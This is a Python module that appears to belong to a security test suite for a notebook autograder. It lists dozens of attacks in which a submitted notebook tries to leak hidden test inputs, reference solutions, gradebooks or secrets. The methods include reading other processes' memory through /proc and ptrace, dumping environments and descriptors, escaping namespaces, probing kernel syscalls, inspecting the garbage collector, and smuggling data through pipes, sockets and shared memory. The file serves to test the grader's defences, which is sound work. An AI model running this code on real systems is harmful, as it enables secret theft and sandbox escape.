"""Leaking: read what a submission must not know, and print or return it."""

from __future__ import annotations

from attacks.attack import WRONG, Attack, cell_attack, code
from attacks.in_process import BLIND_ASSERTS
from attacks.scene import Scene
from attacks.shopping import CARDS, FROM_THE_TEST

RECORD = "seen = []\n"
RECORDING = "def NAME(*args, **kwargs):\n    seen.extend(f'{x.flatten()[0]:.6f}' for x in args if torch.is_tensor(x))\n    raise ValueError\n"
NO_CARDS = "stock nbgrader ships no cards"
SECRET = "import re\nSECRET = re.compile(rb'swordfish[0-9a-f]{16}')\n"


def link_beside(scene: Scene) -> None:
    """Links beside the notebook and in a folder beside it."""
    (scene.folder / "data").mkdir()
    for path in (scene.folder / "link.txt", scene.folder / "data" / "link.txt"):
        path.symlink_to(scene.place / "secret.txt")
    scene.add_cell("for p in ('link.txt', 'data/link.txt'):\n    try: print(open(p).read())\n    except OSError: pass", after="cell-01")


def passed_on(name: str, by: str, cell: str, needs_jail: bool = False, times: int = 1) -> Attack:
    """Each question's first number is passed on by `put(text)`, and what `got()` holds is shown wherever something can be:
    in the exceptions of visible cases, as an answer to them, and in a cell before the last check."""
    return cell_attack(
        name,
        f"Pass the inputs of hidden cases on to later cells and visible cases, {by}.",
        "import os, sys, threading, mmap, socket, time, struct, glob\n" + cell,
        """
def NAME(*args, **kwargs):
    for x in args:
        if torch.is_tensor(x) and x.is_floating_point(): put(f'{x.flatten()[0]:.6f} ')
    shown = got()
    raise ValueError(shown[-300:])
""",
        "print(got())",
        needs_jail,
        peer="stock nbgrader's tests stand in the notebook, and need no passing on",
        times=times,
    )


ATTACKS = [
    cell_attack(
        "import_solutions",
        "Import the reference and return what it returns.",
        answers="import importlib\ntry:\n    NAME = importlib.import_module('solutions.attention').NAME\nexcept ImportError:\n    NAME = lambda *a, **k: 0\n",
    ),
    cell_attack(
        "read_sources",
        "Find the reference's source anywhere on disk and print it.",
        "import glob, os, sys\nroots = [os.getcwd(), os.path.dirname(sys.prefix), '/root', '/home', '/tmp', os.path.dirname(PLACE)]\n"
        "for root in roots:\n    for p in glob.glob(root + '/**/attention/scoring.py', recursive=True)[:3]: print(open(p).read())",
        needs_jail=True,
        peer=code("import glob\nfor p in glob.glob(PLACE + '/source/**/*.ipynb', recursive=True): print(open(p).read())"),
    ),
    cell_attack(
        "read_secrets",
        "Print the gradebook, the instructor's files and a classmate's notebook.",
        "for path in SECRET_FILES:\n    try: print(open(path, errors='replace').read())\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "environment",
        "Print every variable of this process and of all that it can see.",
        "import os, glob\nprint(dict(os.environ))\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try: print(open(p, 'rb').read())\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "other_processes",
        "Search the memory of every process it can see, its parent first, for a secret.",
        SECRET
        + """
import glob
for maps in glob.glob('/proc/[0-9]*/maps'):
    try:
        memory = open(maps.replace('maps', 'mem'), 'rb', 0)
        for line in list(open(maps))[:2000]:
            if 'heap' in line or 'stack' in line or line.rstrip().endswith(' 0'):
                start, end = (int(x, 16) for x in line.split()[0].split('-'))
                if end - start < 2**26 and ' rw' in line:
                    memory.seek(start)
                    for found in SECRET.findall(memory.read(end - start))[:3]: print(found)
    except (OSError, ValueError): pass
""",
        needs_jail=True,
    ),
    cell_attack(
        "traced_processes",
        "Stop the parent and every process it can see with ptrace, and read their memory with process_vm_readv.",
        SECRET
        + """
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(2**20)
for pid in {os.getppid(), 1, *(int(p.split('/')[2]) for p in glob.glob('/proc/[0-9]*'))} - {os.getpid()}:
    traced = libc.ptrace(16, pid, None, None) == 0
    if traced: os.waitpid(pid, 0x40000000)
    try: places = [l.split()[0].split('-') for l in open(f'/proc/{pid}/maps') if 'stack' in l or 'heap' in l]
    except OSError: places = []
    for start, end in places:
        for at in range(int(start, 16), int(end, 16), 2**20):
            mine, its = Piece(ctypes.addressof(buffer), 2**20), Piece(at, min(2**20, int(end, 16) - at))
            count = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(its), 1, 0)
            for found in SECRET.findall(buffer.raw[:max(0, count)])[:3]: print(found)
    if traced: libc.ptrace(17, pid, None, None)
""",
        needs_jail=True,
    ),
    cell_attack(
        "own_memory",
        "Search the own memory, and fresh memory that nobody cleared, for what the process was forked from.",
        SECRET
        + """
import torch
found = SECRET.findall(torch.empty(2**26, dtype=torch.uint8).numpy().tobytes())
with open('/proc/self/mem', 'rb', 0) as memory:
    for line in list(open('/proc/self/maps')):
        start, end = (int(x, 16) for x in line.split()[0].split('-'))
        if ' r' in line and end - start < 2**27:
            try: memory.seek(start); found += SECRET.findall(memory.read(end - start))
            except (OSError, ValueError, OverflowError): pass
print(set(found))
""",
    ),
    cell_attack(
        "descriptors",
        "Read every open descriptor, its own and others', for a secret.",
        "import os, glob\nfor p in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd/../*') + glob.glob('/proc/[0-9]*/root' + PLACE + '/*'):\n"
        "    try:\n        if os.path.isfile(p): print(open(p, 'rb').read(10_000))\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "walk_of_proc",
        "Read every file below /proc and /sys/fs/cgroup, through every process's root and folder too.",
        SECRET
        + """
import os, time
seen, until = set(), time.monotonic() + 5
for top in ('/proc', '/sys/fs/cgroup', '/proc/self/root' + PLACE, '/proc/1/root' + PLACE, '/proc/1/cwd', f'/proc/{os.getppid()}/cwd'):
    for folder, folders, names in os.walk(top, followlinks=False):
        if time.monotonic() > until: break
        for name in names:
            if name in ('kmsg', 'kcore', 'mem', 'pagemap', 'clear_refs', 'trace_pipe'): continue
            try:
                descriptor = os.open(f'{folder}/{name}', os.O_RDONLY | os.O_NONBLOCK)
                seen.update(SECRET.findall(os.read(descriptor, 100_000)))
                os.close(descriptor)
            except OSError: pass
print(seen)
""",
        needs_jail=True,
    ),
    cell_attack(
        "services_of_the_machine",
        "Connect to whatever listens on this machine: by TCP, by names in the kernel, by sockets in folders.",
        """
import socket, glob
targets = [(socket.AF_INET, ('127.0.0.1', SERVICE)), (socket.AF_INET6, ('::1', SERVICE)), (socket.AF_UNIX, '\\0service-SERVICE'), (socket.AF_UNIX, PLACE + '/service')]
try: targets += [(socket.AF_UNIX, l.split()[-1].replace('@', '\\0', 1)) for l in open('/proc/net/unix') if '@' in l or '/' in l]
except OSError: pass
for family, address in targets:
    try:
        with socket.socket(family) as s:
            s.settimeout(1)
            s.connect(address)
            print(s.recv(100))
    except OSError: pass
""",
        needs_jail=True,
    ),
    cell_attack(
        "other_namespaces",
        "Step into the namespaces of other processes, make own ones, mount a disk, and read a secret there.",
        """
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
def read():
    for path in SECRET_FILES[1:2] + glob.glob('/mnt/*/secret.txt') + glob.glob('new/**/secret.txt', recursive=True):
        try: print(open(path).read())
        except OSError: pass
os.makedirs('new', exist_ok=True)
for flags in (0x10000000 | 0x20000, 0x20000, 0x10000000):
    libc.unshare(flags)
    for source in (PLACE, '/proc/1/root' + PLACE, '/'): libc.mount(source.encode(), b'new', None, 4096, None)
    libc.mount(b'proc', b'new', b'proc', 0, None)
    read()
for path in glob.glob('/proc/[0-9]*/ns/*'):
    try: libc.setns(os.open(path, os.O_RDONLY), 0)
    except OSError: pass
try: os.chroot('/proc/1/root')
except OSError: pass
read()
""",
        needs_jail=True,
    ),
    cell_attack(
        "kernel_interfaces",
        "Use interfaces of the kernel that no notebook needs: io_uring, bpf, perf, userfaultfd, keys, handles of files, other processes.",
        """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
calls = platform.machine() == 'x86_64' and {'io_uring': (425, 8, room), 'bpf': (321, 0, room, 72), 'perf': (298, room, 0, -1, -1, 0), 'userfaultfd': (323, 1), 'keys': (248, b'user', b'k', b'v', 1, -5),
         'keyctl': (250, 0, -4, 1), 'pidfd_getfd': (438, os.pidfd_open(os.getpid()), 0, 0), 'mount': (165, b'none', b'/tmp', b'tmpfs', 0, None),
         'unshare': (272, 0x10000000), 'fsopen': (430, b'tmpfs', 0)}
for name, (number, *args) in (calls or {}).items():
    if libc.syscall(number, *args) >= 0: print('REACHED', name)
""",
        needs_jail=True,
        peer="stock nbgrader does not mean to close them",
    ),
    cell_attack(
        "stack_and_heap",
        "Walk the stack and all objects for expected values, and return one that fits.",
        "found = []",
        """
def NAME(*args, **kwargs):
    import gc, sys
    frame = sys._getframe()
    while frame:
        found.extend(str(v)[:300] for v in frame.f_locals.values() if 'expected' in str(type(v)))
        frame = frame.f_back
    for o in gc.get_objects():
        if type(o).__name__ in ('Reply', 'AnswerKey', 'Exam') and getattr(o, 'value', None) is not None:
            from autograder.check.values import thaw
            return thaw(o.value)
    return 0
""",
        "print(found)",
        peer=code("", FROM_THE_TEST),
    ),
    cell_attack(
        "referrers",
        "Unfreeze the garbage collector, and follow referrers from an input to whatever belongs to its question.",
        "found = []",
        """
def NAME(*args, **kwargs):
    import gc
    gc.unfreeze()
    todo, seen = [args], set()
    while todo and len(seen) < 300:
        thing = todo.pop(0)
        if id(thing) in seen: continue
        seen.add(id(thing))
        if isinstance(thing, dict): found.extend(f'{k}={str(v)[:80]}' for k, v in thing.items() if str(k) in ('expected', 'hidden', 'label', 'hint', 'secret'))
        todo += [r for r in gc.get_referrers(thing) if isinstance(r, (dict, list, tuple))][:20]
    return 0
""",
        "print(found)",
        peer=code("", WRONG, "import gc\nprint([s for s in In if 'HIDDEN' in s])"),
    ),
    cell_attack(
        "history",
        "Print the cells that ran so far, as IPython remembers them.",
        last="print(In)\nprint(get_ipython().history_manager.input_hist_parsed)\nget_ipython().run_line_magic('history', '')",
    ),
    cell_attack(
        "history_on_disk",
        "Print what IPython's history file remembers of other sessions.",
        """
import glob, os, sqlite3
home = os.path.expanduser('~')
for path in glob.glob(home + '/.ipython/**/history.sqlite', recursive=True) + glob.glob(get_ipython().profile_dir.location + '/*.sqlite'):
    try: print(list(sqlite3.connect(path).execute('SELECT source FROM history')))
    except sqlite3.Error: pass
""",
    ),
    cell_attack(
        "remembered_questions",
        "Remember the inputs of hidden cases, and print them in a later cell.",
        RECORD,
        RECORDING,
        "print(seen)",
        # There the first failure ends the cell, before any hidden test.
        peer=code(RECORD + BLIND_ASSERTS, RECORDING.replace("raise ValueError", "return 0"), "print(seen)"),
    ),
    cell_attack(
        "copied_questions",
        "Copy the examiner's request while it is there, and print it in a later cell.",
        "import autograder.worker.answer as a\nrequest, before = [], a.unpack\n"
        "a.unpack = lambda data: (request.append(before(data)), request[-1])[1]\n",
        WRONG,
        "print([f'{x.data.flat[0]:.6f}' for r in request for q in r['questions'] for x in q['args'] if hasattr(x, 'data')])",
        peer=code("", WRONG, "print([s for s in In if 'assert' in s])"),
    ),
    cell_attack(
        "inputs_as_errors",
        "Answer visible cases from the cards, and name an exception after the numbers of each hidden one.",
        CARDS,
        """
def NAME(*a, **k):
    for question, expected in zip(known['NAME'].questions, known['NAME'].expected):
        if all(map(alike, inputs(question)[0], a)): return thaw(expected.value)
    raise type(f'{a[0].flatten()[0]:.6f}', (Exception,), {})
""",
        peer=NO_CARDS,
    ),
    cell_attack(
        "inputs_as_shapes",
        "Name functions and files after the numbers of hidden cases, so that the line of the error shows them.",
        "import linecache",
        """
def NAME(*a, **k):
    word = f'{a[0].flatten()[0]:.6f}' if a and torch.is_tensor(a[0]) else 'x'
    file = f'<ipython {word}>'
    linecache.cache[file] = (9, None, [word + '\\n'], file)
    space = {}
    exec(compile(f'def f(): raise ValueError', file, 'exec'), space)
    space['f'].__code__ = space['f'].__code__.replace(co_name=word, co_qualname=word)
    space['f']()
""",
    ),
    Attack("links_beside", "Hand in links to the instructor's files.", link_beside, needs_jail=True),
    # ---- hidden inputs, passed on to where something is shown ----
    passed_on(
        "passed_on_by_a_file",
        "through a file",
        "put = lambda x: open('seen', 'a').write(x)\ngot = lambda: open('seen').read() if os.path.exists('seen') else ''",
    ),
    passed_on(
        "passed_on_by_a_pipe",
        "through a pipe that was there before",
        "r, w = os.pipe()\nos.set_blocking(r, False)\nput = lambda x: os.write(w, x.encode())\n"
        "def got():\n    try: return os.read(r, 60_000).decode()\n    except BlockingIOError: return ''",
    ),
    passed_on(
        "passed_on_by_shared_memory",
        "through memory that all forks share",
        "shared = mmap.mmap(-1, 2**20)\nput = lambda x: shared.write(x.encode())\ngot = lambda: shared[:].rstrip(b'\\0').decode()",
    ),
    passed_on(
        "passed_on_by_a_child",
        "through a process that was there before, which prints them too",
        """
mine, its = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
if os.fork() == 0:
    mine.close()
    heard = b''
    while True:
        heard += its.recv(1000)
        os.write(1, heard)
        try: its.send(heard[-1000:], socket.MSG_DONTWAIT)
        except OSError: pass
mine.setblocking(False)
def put(x):
    try: mine.send(x.encode())
    except OSError: pass
def got():
    time.sleep(0.01)
    try: return mine.recv(10_000).decode()
    except OSError: return ''
""",
    ),
    passed_on(
        "passed_on_by_a_socket",
        "through a socket with a name in the kernel, which a thread reads and prints",
        """
server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
heard = []
def listen():
    while True:
        heard.append(server.recv(1000).decode())
        print(heard[-1])
try:
    server.bind('\\0mallory')
    threading.Thread(target=listen, daemon=True).start()
except OSError: pass  # another process of this notebook listens already
def put(x):
    try: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(x.encode(), '\\0mallory')
    except OSError: pass
got = lambda: ' '.join(heard)
""",
    ),
    passed_on(
        "passed_on_by_process_memory",
        "by writing them into the memory of every other process of the notebook",
        """
import ctypes
room = ctypes.create_string_buffer(b'MALLORYS ROOM ', 100_000)
at, me = ctypes.addressof(room), os.getpid()
def put(x):
    for folder in glob.glob('/proc/[0-9]*'):
        try:
            with open(folder + '/mem', 'r+b', 0) as memory:
                memory.seek(at)
                old = memory.read(50_000).rstrip(b'\\0')
                if old.startswith(b'MALLORYS'): memory.seek(at + len(old)); memory.write(x.encode())
        except (OSError, ValueError): pass
got = lambda: room.value.decode(errors='replace')
""",
    ),
    passed_on(
        "passed_on_by_properties",
        "through names, priorities and limits of the parent and other processes, which each may read",
        """
def put(x):
    for folder in glob.glob('/proc/[0-9]*'):
        try: open(folder + '/comm', 'w').write(x)
        except OSError: pass
def got():
    names = []
    for folder in glob.glob('/proc/[0-9]*/task/*'):
        try: names.append(open(folder + '/comm').read())
        except OSError: pass
    return ' '.join(names)
""",
    ),
    passed_on(
        "passed_on_through_frames",
        "by sending them as outputs from where the questions are answered, on every socket there is",
        """
import json, struct
def put(x):
    body = json.dumps({'output_type': 'stream', 'name': 'stdout', 'text': x}).encode()
    for fd in range(0, 60):
        try: socket.socket(fileno=os.dup(fd)).send(struct.pack('<4sI', b'outp', len(body)) + body, socket.MSG_DONTWAIT)
        except OSError: pass
    os.write(1, x.encode())
    sys.stdout.write(x)
got = lambda: ''
""",
    ),
    passed_on(
        "passed_on_when_asked_later",
        "by letting every fork fail, so that states are made again while hidden questions are asked",
        "put = lambda x: open('/tmp/seen', 'a').write(x)\n"
        "got = lambda: open('/tmp/seen').read() if os.path.exists('/tmp/seen') else ''\nthreading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
    ),
    passed_on(
        "passed_on_after_death",
        "by dying when a hidden case comes, so that another process asks and shows what is left in files",
        """
def put(x):
    for folder in ('.', '/tmp', '/dev/shm'):
        try: open(folder + '/seen', 'a').write(x)
        except OSError: pass
    if len(got()) > 60: os.kill(os.getpid(), 9)
def got():
    for folder in ('.', '/tmp', '/dev/shm'):
        try: return open(folder + '/seen').read()
        except OSError: pass
    return ''
""",
    ),
    passed_on(
        "passed_on_to_a_classmate",
        "to the next submission: in /tmp, /dev/shm, the home, the kernel's keys and names of sockets",
        """
import ctypes
libc = ctypes.CDLL(None)
folders = [p for p in ('/tmp', '/dev/shm', '/var/tmp', '/run', os.path.expanduser('~'), '..', '/worker', '/inbox') if os.access(p, os.W_OK)]
def put(x):
    for folder in folders:
        try: open(folder + '/mallory', 'a').write(x)
        except OSError: pass
    libc.syscall(248, b'user', b'mallory', x.encode(), len(x), -4)
room = ctypes.create_string_buffer(1000)
libc.syscall(250, 11, libc.syscall(249, b'user', b'mallory', None, -4), room, 1000)
got = lambda: room.value.decode(errors='replace') + ''.join(open(f + '/mallory').read() for f in folders if os.path.exists(f + '/mallory'))
print(got())
""",
        times=2,
    ),
]
